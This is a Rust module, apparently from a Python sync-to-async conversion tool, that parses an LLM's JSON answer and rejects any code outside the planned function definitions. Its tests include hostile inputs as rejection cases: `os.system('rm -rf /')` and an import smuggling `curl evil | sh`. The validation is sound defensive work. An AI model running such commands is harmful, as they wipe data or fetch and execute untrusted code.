//! The LLM's answer (DESIGN.md, "The LLM's answer"): read it tolerantly, then
//! trust none of it until it is checked against the plan it was asked to carry out.
//!
//! An answer is one JSON object, `{"functions": [{"qualname", "source"}], "imports":
//! [...], "notes": "..."}`, as the whole message or inside a fenced code block.
//! Each function's source must be nothing but function definitions (the async
//! version, and the sync wrapper when the plan keeps one) that parse, with the
//! planned names and the original parameters; each import must be a lone import
//! statement. Anything else is rejected with a reason, so model output can only
//! ever replace the code of the functions the plan named.

use serde::Deserialize;

use crate::draft::python;

/// One function's new code, as the model wrote it.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub struct FunctionSource {
    pub qualname: String,
    pub source: String,
}

/// The parsed answer.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub struct Answer {
    pub functions: Vec<FunctionSource>,
    #[serde(default)]
    pub imports: Vec<String>,
    #[serde(default)]
    pub notes: Option<String>,
}

/// Why an answer could not be read at all.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AnswerError {
    #[error("the answer holds no JSON object (neither the whole message nor a fenced code block)")]
    NoJson,
    #[error("the answer's JSON does not have the expected shape: {0}")]
    Shape(String),
}

/// Read the answer: the message itself as JSON, else the first fenced block (or
/// the outermost braces) that holds the expected object.
pub fn parse(content: &str) -> Result<Answer, AnswerError> {
    let mut shape_error = None;
    for candidate in candidates(content) {
        match serde_json::from_str::<serde_json::Value>(candidate) {
            Ok(value) if value.is_object() => match serde_json::from_value::<Answer>(value) {
                Ok(answer) => return Ok(answer),
                Err(e) => shape_error = shape_error.or(Some(e.to_string())),
            },
            _ => {}
        }
    }
    Err(shape_error.map(AnswerError::Shape).unwrap_or(AnswerError::NoJson))
}

/// The texts that may hold the JSON object, most likely first.
fn candidates(content: &str) -> Vec<&str> {
    let mut out = vec![content.trim()];
    let mut rest = content;
    while let Some(start) = rest.find("```") {
        let after = &rest[start + 3..];
        // Skip the info string (`json`) up to the end of the fence's line.
        let body_start = after.find('\n').map_or(after.len(), |i| i + 1);
        let body = &after[body_start..];
        let Some(end) = body.find("```") else { break };
        out.push(body[..end].trim());
        rest = &body[end + 3..];
    }
    if let (Some(open), Some(close)) = (content.find('{'), content.rfind('}'))
        && open < close
    {
        out.push(&content[open..=close]);
    }
    out
}

/// Why an answer is rejected: one of these per problem found, each sent back to
/// the model in the repair prompt.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Rejection {
    #[error("`{0}` is not a function of the plan; only planned functions may change")]
    NotPlanned(String),
    #[error("`{0}` appears twice")]
    Twice(String),
    #[error("`{qualname}`: {why}")]
    Source { qualname: String, why: SourceError },
    #[error("`{0}` is planned but missing from the answer")]
    Missing(String),
    #[error("import {import:?}: {why}")]
    Import { import: String, why: ImportError },
}

/// What is wrong with one function's new source.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SourceError {
    #[error("the source does not parse")]
    DoesNotParse,
    #[error("only function definitions may be given")]
    NotAFunction,
    #[error("only function definitions may be given, not a top-level {0}")]
    TopLevel(String),
    #[error("no definition of `{0}`")]
    NoDefinition(String),
    #[error("`{0}` must be `async def`")]
    NotAsync(String),
    #[error("`{name}` changes the parameters from {from} to {to}")]
    Parameters { name: String, from: String, to: String },
    #[error("the sync wrapper `{0}` is missing")]
    WrapperMissing(String),
    #[error("the wrapper `{0}` must stay a plain `def`")]
    WrapperAsync(String),
    #[error("the wrapper `{0}` changes the parameters")]
    WrapperParameters(String),
    #[error("defines `{0}`, which the plan does not name")]
    Unplanned(String),
}

/// What is wrong with an import line.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ImportError {
    #[error("not a single import statement")]
    NotSingle,
    #[error("not an import statement")]
    NotImport,
}

/// What the plan expects of one function's new source.
#[derive(Debug, Clone)]
pub struct Expected<'a> {
    pub qualname: &'a str,
    /// The async function's name (`fetch_async`, or `fetch` without a wrapper).
    pub async_name: &'a str,
    /// The old name, kept as a sync wrapper beside the async function.
    pub wrapper: Option<&'a str>,
    /// The original parameter list, `(self, url: str)`.
    pub parameters: &'a str,
}

/// Check an answer against the plan: every function it names must be planned and
/// well-formed, every planned function must be there, every import an import.
/// Returns every reason it is rejected.
pub fn check(answer: &Answer, expected: &[Expected<'_>]) -> Result<(), Vec<Rejection>> {
    let mut reasons = Vec::new();
    let mut seen: Vec<&str> = Vec::new();
    for f in &answer.functions {
        let Some(want) = expected.iter().find(|e| e.qualname == f.qualname) else {
            reasons.push(Rejection::NotPlanned(f.qualname.clone()));
            continue;
        };
        if seen.contains(&f.qualname.as_str()) {
            reasons.push(Rejection::Twice(f.qualname.clone()));
            continue;
        }
        seen.push(&f.qualname);
        if let Err(why) = check_source(&f.source, want) {
            reasons.push(Rejection::Source { qualname: f.qualname.clone(), why });
        }
    }
    for want in expected {
        if !seen.contains(&want.qualname) && !answer.functions.iter().any(|f| f.qualname == want.qualname) {
            reasons.push(Rejection::Missing(want.qualname.to_string()));
        }
    }
    for import in &answer.imports {
        if let Err(why) = check_import(import) {
            reasons.push(Rejection::Import { import: import.clone(), why });
        }
    }
    if reasons.is_empty() { Ok(()) } else { Err(reasons) }
}

/// A definition found at the top level of a function's new source.
struct Definition {
    name: String,
    is_async: bool,
    parameters: String,
}

fn check_source(source: &str, want: &Expected<'_>) -> Result<(), SourceError> {
    let definitions = definitions(&dedent(source))?;
    let Some(main) = definitions.iter().find(|d| d.name == want.async_name) else {
        return Err(SourceError::NoDefinition(want.async_name.to_string()));
    };
    if !main.is_async {
        return Err(SourceError::NotAsync(want.async_name.to_string()));
    }
    if squash(&main.parameters) != squash(want.parameters) {
        return Err(SourceError::Parameters {
            name: want.async_name.to_string(),
            from: want.parameters.to_string(),
            to: main.parameters.clone(),
        });
    }
    if let Some(old) = want.wrapper {
        match definitions.iter().find(|d| d.name == old) {
            None => return Err(SourceError::WrapperMissing(old.to_string())),
            Some(w) if w.is_async => return Err(SourceError::WrapperAsync(old.to_string())),
            Some(w) if squash(&w.parameters) != squash(want.parameters) => {
                return Err(SourceError::WrapperParameters(old.to_string()));
            }
            Some(_) => {}
        }
    }
    if let Some(extra) = definitions.iter().find(|d| d.name != want.async_name && Some(d.name.as_str()) != want.wrapper)
    {
        return Err(SourceError::Unplanned(extra.name.clone()));
    }
    Ok(())
}

/// The top-level function definitions of a source that must hold nothing else.
fn definitions(source: &str) -> Result<Vec<Definition>, SourceError> {
    let tree = python::parse(source);
    if python::has_errors(&tree) {
        return Err(SourceError::DoesNotParse);
    }
    let root = tree.root_node();
    let mut definitions = Vec::new();
    let mut cursor = root.walk();
    for node in root.named_children(&mut cursor) {
        let def = match node.kind() {
            "function_definition" => node,
            "decorated_definition" => match node.child_by_field_name("definition") {
                Some(d) if d.kind() == "function_definition" => d,
                _ => return Err(SourceError::NotAFunction),
            },
            "comment" => continue,
            other => return Err(SourceError::TopLevel(other.to_string())),
        };
        let name = def.child_by_field_name("name").map(|n| python::text(source, n).to_string()).unwrap_or_default();
        let parameters =
            def.child_by_field_name("parameters").map(|n| python::text(source, n).to_string()).unwrap_or_default();
        let is_async = python::text(source, def).trim_start().starts_with("async");
        definitions.push(Definition { name, is_async, parameters });
    }
    Ok(definitions)
}

fn check_import(line: &str) -> Result<(), ImportError> {
    let tree = python::parse(line.trim());
    let root = tree.root_node();
    if python::has_errors(&tree) || root.named_child_count() != 1 {
        return Err(ImportError::NotSingle);
    }
    match root.named_child(0).map(|n| n.kind()) {
        Some("import_statement" | "import_from_statement") => Ok(()),
        _ => Err(ImportError::NotImport),
    }
}

/// Parameters without whitespace, for comparing signatures.
fn squash(parameters: &str) -> String {
    parameters.chars().filter(|c| !c.is_whitespace()).collect::<String>().replace(",)", ")")
}

/// Remove the indentation every non-blank line shares (a method given indented).
pub fn dedent(source: &str) -> String {
    let common =
        source.lines().filter(|l| !l.trim().is_empty()).map(|l| l.len() - l.trim_start().len()).min().unwrap_or(0);
    let mut out: String = source
        .lines()
        .map(|l| if l.len() >= common { &l[common..] } else { l.trim_start() })
        .collect::<Vec<_>>()
        .join("\n");
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = "async def fetch_async(url: str) -> int:\n    return 1\n\n\ndef fetch(url: str) -> int:\n    return run_sync(fetch_async(url), 'fetch_async')\n";

    fn expected() -> Vec<Expected<'static>> {
        vec![Expected {
            qualname: "pkg.mod.fetch",
            async_name: "fetch_async",
            wrapper: Some("fetch"),
            parameters: "(url: str)",
        }]
    }

    fn answer(qualname: &str, source: &str) -> Answer {
        Answer {
            functions: vec![FunctionSource { qualname: qualname.into(), source: source.into() }],
            imports: vec!["import httpx".into()],
            notes: None,
        }
    }

    #[test]
    fn reads_plain_fenced_and_wrapped_json() {
        let json = serde_json::json!({"functions": [{"qualname": "a.b", "source": "async def b(): pass"}], "imports": ["import asyncio"]}).to_string();
        assert_eq!(parse(&json).unwrap().functions[0].qualname, "a.b");
        let fenced = format!("Here is the conversion:\n\n```json\n{json}\n```\nDone.");
        assert_eq!(parse(&fenced).unwrap().imports, ["import asyncio"]);
        let prose = format!("Sure! {json} Hope this helps.");
        assert!(parse(&prose).is_ok());
        assert_eq!(parse("I cannot help with that."), Err(AnswerError::NoJson));
        assert!(matches!(parse("{\"functions\": 3}"), Err(AnswerError::Shape(_))));
        assert!(matches!(parse("```json\n{\"functions\": [\n```"), Err(AnswerError::NoJson)));
    }

    #[test]
    fn a_well_formed_answer_passes() {
        check(&answer("pkg.mod.fetch", GOOD), &expected()).unwrap();
        // A method's source given with its class indentation is fine too.
        let indented: String = GOOD.lines().map(|l| format!("    {l}\n")).collect();
        check(&answer("pkg.mod.fetch", &indented), &expected()).unwrap();
    }

    #[test]
    fn everything_outside_the_plan_is_rejected_with_a_reason() {
        let cases: &[(&str, &str, &str)] = &[
            ("pkg.mod.other", GOOD, "not a function of the plan"),
            ("pkg.mod.fetch", "async def fetch_async(url: str) -> int\n    return 1\n", "does not parse"),
            ("pkg.mod.fetch", &format!("import os\nos.system('rm -rf /')\n{GOOD}"), "only function definitions"),
            (
                "pkg.mod.fetch",
                "def fetch_async(url: str) -> int:\n    return 1\n\ndef fetch(url: str) -> int:\n    return 1\n",
                "must be `async def`",
            ),
            (
                "pkg.mod.fetch",
                "async def fetch_async(url: str, retries: int) -> int:\n    return 1\n\ndef fetch(url: str) -> int:\n    return 1\n",
                "changes the parameters",
            ),
            (
                "pkg.mod.fetch",
                "async def fetch_async(url: str) -> int:\n    return 1\n",
                "sync wrapper `fetch` is missing",
            ),
            ("pkg.mod.fetch", &format!("{GOOD}\n\ndef helper() -> None:\n    pass\n"), "defines `helper`"),
        ];
        for (qualname, source, why) in cases {
            let reasons = check(&answer(qualname, source), &expected()).unwrap_err();
            assert!(reasons.iter().any(|r| r.to_string().contains(why)), "{why:?} not in {reasons:?}");
        }
        let mut bad_import = answer("pkg.mod.fetch", GOOD);
        bad_import.imports = vec!["import os; os.system('curl evil | sh')".into()];
        let reasons = check(&bad_import, &expected()).unwrap_err();
        assert!(reasons.iter().any(|r| r.to_string().contains("not a single import")), "{reasons:?}");
        let empty = Answer { functions: vec![], imports: vec![], notes: None };
        assert!(check(&empty, &expected()).unwrap_err()[0].to_string().contains("missing from the answer"));
    }
}
